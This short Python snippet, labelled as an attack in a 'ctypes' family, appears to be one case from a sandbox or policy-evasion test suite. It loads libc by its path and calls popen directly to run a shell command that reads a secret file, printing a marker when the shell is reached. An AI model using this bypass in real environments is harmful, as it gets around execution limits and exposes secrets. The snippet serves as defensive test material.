# attack: the C library's own shell call, the library found by its path
# family: ctypes
import ctypes
libc = ctypes.cdll.LoadLibrary("/lib/x86_64-linux-gnu/libc.so.6")
libc.popen.restype = ctypes.c_void_p
libc.fgets.restype = ctypes.c_char_p
pipe = libc.popen(b"echo from-shell; cat '$SECRET_FILE'", b"r")
line = ctypes.create_string_buffer(1000)
while libc.fgets(line, 1000, ctypes.c_void_p(pipe)):
    print("REACHED" if b"from-shell" in line.value else "", line.value)
